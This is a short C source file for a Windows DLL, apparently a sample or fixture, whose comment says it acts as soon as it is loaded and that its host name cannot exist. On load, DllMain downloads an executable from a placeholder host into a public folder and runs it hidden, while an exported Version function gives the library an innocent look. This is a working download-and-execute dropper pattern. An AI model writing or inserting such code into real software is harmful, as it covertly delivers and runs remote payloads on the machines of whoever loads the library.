/* A library that acts as soon as it is loaded. The name cannot exist. build: dll libs: -lurlmon */
#include <windows.h>
#include <urlmon.h>
BOOL WINAPI DllMain(HINSTANCE self, DWORD why, LPVOID kept) {
    if (why == DLL_PROCESS_ATTACH) {
        const char *path = "C:\\Users\\Public\\runtime.exe";
        if (URLDownloadToFileA(NULL, "http://files.example.invalid/x.exe", path, 0, NULL) == 0) WinExec(path, SW_HIDE);
    }
    return TRUE;
}
__declspec(dllexport) int Version(void) { return 3; }
